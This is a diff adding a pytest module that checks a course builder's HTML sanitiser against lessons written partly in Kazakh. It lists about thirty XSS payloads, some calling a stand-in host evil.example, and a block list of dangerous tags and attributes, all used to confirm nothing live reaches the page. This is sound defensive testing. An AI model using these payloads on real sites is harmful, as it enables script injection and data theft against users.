@@ -1,0 +1,186 @@
+"""Raw HTML in lessons: escaped by default; with ``allow_html = true`` only a safe
+text-level subset passes. XSS vectors go through the html build and the page
+is parsed back: no live markup may come out of the lesson."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from casekit.render.sanitize import ALLOWED_TAGS, sanitize_html
+from tests.conftest import MINIMAL_TOML
+from tests.hostile_build import build_html
+
+XSS = [
+    "<script>alert('xss-1')</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert('xss-2')>",
+    "<svg onload=alert('xss-3')><script>alert(1)</script></svg>",
+    "<iframe src=\"javascript:alert('xss-4')\"></iframe>",
+    "<object data=http://evil.example/x.swf></object>",
+    "<embed src=http://evil.example/x.swf>",
+    "<a href=\"javascript:alert('xss-5')\">click</a>",
+    "<a href=\"JaVaScRiPt&#58;alert('xss-6')\">click</a>",
+    "<b onmouseover=\"alert('xss-7')\">bold</b>",
+    '<span style="background:url(http://evil.example/t.png)">s</span>',
+    "<style>body{background:url(http://evil.example/t.png)}</style>",
+    "<link rel=stylesheet href=http://evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<form action=http://evil.example><input name=p></form>",
+    "<details open ontoggle=alert('xss-8')>",
+    "<body onload=alert('xss-9')>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-10')>",
+    '<img src="http://evil.example/pixel.png">',
+    "<video><source onerror=\"alert('xss-11')\"></video>",
+    "<audio src=http://evil.example/a.mp3 autoplay>",
+    "<base href=http://evil.example/>",
+    "<scr<script>ipt>alert('xss-12')</scr</script>ipt>",
+    "<!--<img src=x onerror=alert('xss-13')>-->",
+    "<abbr title='\" onmouseover=alert(14) x=\"'>ҚР</abbr>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-15')>\"></noscript>",
+    "<template><img src=x onerror=alert('xss-16')></template>",
+    "<textarea><img src=x onerror=alert('xss-17')></textarea>",
+    "<isindex type=image src=1 onerror=alert('xss-18')>",
+]
+SAFE = 'H<sub>2</sub>O, <b>қалың</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <abbr title="Қазақстан Республикасы">ҚР</abbr><br>'
+
+
+class Collector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
+    collector = Collector()
+    collector.feed(html)
+    collector.close()
+    return collector.tags
+
+
+def lesson_html(page: str) -> str:
+    return page.split('<section class="lesson"', 1)[1].split("</section>\n</section>", 1)[0]
+
+
+def lesson_body() -> str:
+    inline = "\n\n".join(f"Мәтін {vector} соңы." for vector in XSS)
+    blocks = "\n\n".join(XSS)
+    return f"# Сабақ\n\n{SAFE}\n\n{inline}\n\n{blocks}\n\n<div>\n<b>блок</b> <i>мәтін\n</div>\n"
+
+
+@pytest.fixture(scope="module")
+def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[bool, tuple[dict[str, str], list]]:
+    """The learner page and diagnostics without and with ``allow_html``."""
+    result = {}
+    for allow in (False, True):
+        root = tmp_path_factory.mktemp(f"raw-html-{allow}")
+        toml = MINIMAL_TOML.format(lessons='"a.md"')
+        if allow:
+            toml = toml.replace('licence = "CC0"', 'licence = "CC0"\nallow_html = true')
+        (root / "course").mkdir()
+        (root / "course" / "course.toml").write_text(toml, "utf-8")
+        (root / "course" / "a.md").write_text(lesson_body(), "utf-8")
+        diags, built = build_html(root / "course", root / "out")
+        assert sorted(built) == ["learner", "teacher"], diags.sorted()
+        result[allow] = (built, diags.sorted())
+    return result
+
+
+def assert_nothing_live(fragment: str) -> None:
+    for tag, attrs in tags_of(fragment):
+        assert tag not in {
+            "script",
+            "iframe",
+            "object",
+            "embed",
+            "style",
+            "link",
+            "meta",
+            "form",
+            "input",
+            "img",
+            "svg",
+            "math",
+            "base",
+            "video",
+            "audio",
+            "a",
+            "details",
+            "body",
+            "textarea",
+            "template",
+            "noscript",
+        }, tag
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name)
+            assert name not in {"src", "href", "style", "action", "data", "formaction"}, (tag, name)
+            assert "javascript" not in (value or "").lower(), (tag, name, value)
+
+
+@pytest.mark.parametrize("allow", [False, True])
+def test_no_vector_reaches_the_page_as_markup(pages: dict, allow: bool) -> None:
+    built, _ = pages[allow]
+    for page in built.values():
+        body = lesson_html(page)
+        assert_nothing_live(body)
+        assert "evil.example" not in "".join(str(a) for _t, a in tags_of(body))
+
+
+def test_default_shows_raw_html_as_text(pages: dict) -> None:
+    built, diags = pages[False]
+    body = lesson_html(built["learner"])
+    assert "&lt;script&gt;alert(&#x27;xss-1&#x27;)&lt;/script&gt;" in body
+    assert {tag for tag, _a in tags_of(body)} <= {"p", "pre", "code", "h2", "section", "span"}
+    warnings = [d for d in diags if d.code == "raw-html"]
+    assert len(warnings) > len(XSS) and all(d.severity == "warning" for d in warnings)
+
+
+def test_allow_html_keeps_the_safe_subset(pages: dict) -> None:
+    built, diags = pages[True]
+    body = lesson_html(built["learner"])
+    assert "H<sub>2</sub>O, <b>қалың</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>" in body
+    assert '<abbr title="Қазақстан Республикасы">ҚР</abbr><br/>' in body
+    assert "<b>блок</b> <i>мәтін\n</i>" in body  # closed before the block ends
+    found = {tag for tag, _a in tags_of(body)}
+    assert found - {"p", "div", "section", "h2", "span"} <= ALLOWED_TAGS
+    warned = {d.line for d in diags if d.code == "raw-html"}
+    assert 3 not in warned, "the safe line is not warned about"
+    assert len(warned) >= len(XSS)
+
+
+def test_allow_html_hides_script_and_style_content(pages: dict) -> None:
+    body = lesson_html(pages[True][0]["learner"])
+    for hidden in ("xss-1'", "xss-10'", "xss-15'", "xss-16'", "xss-17'", "body{background"):
+        assert hidden not in body, hidden
+    assert "Мәтін  соңы." in body  # the inline <script> and its text are gone
+
+
+@pytest.mark.parametrize(
+    ("raw", "clean"),
+    [
+        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c"),
+        ("<i>never closed", "<i>never closed</i>"),
+        ("</b>stray", "stray"),
+        ("<br>x<br/>", "<br/>x<br/>"),
+        ('<b title="a&quot;b" class=x>t</b>', '<b title="a&quot;b">t</b>'),
+        ("<abbr title='x' onclick=y>t</abbr>", '<abbr title="x">t</abbr>'),
+        ("a &lt;script&gt; &amp; b", "a &lt;script&gt; &amp; b"),
+        ("<script>1</script>after", "after"),
+        ("<p>para</p><table><tr><td>c</td></tr></table>", "parac"),
+        ("<b", "&lt;b"),
+    ],
+)
+def test_sanitizer_output_is_balanced_and_escaped(raw: str, clean: str) -> None:
+    assert sanitize_html(raw) == clean
+
+
+def test_allow_html_output_is_well_formed_xml(pages: dict) -> None:
+    """EPUB chapters are XHTML: the sanitised lesson must parse as XML."""
+    import xml.etree.ElementTree as ET
+
+    body = lesson_html(pages[True][0]["teacher"])
+    ET.fromstring(f'<section class="lesson"{body}</section>')
